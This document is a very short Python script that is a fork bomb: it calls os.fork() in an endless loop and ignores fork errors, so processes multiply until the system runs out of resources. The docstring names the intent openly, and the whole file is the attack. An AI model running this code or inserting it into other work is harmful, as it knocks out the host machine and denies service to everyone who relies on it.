"""Forks without end, and so do all that come of it."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
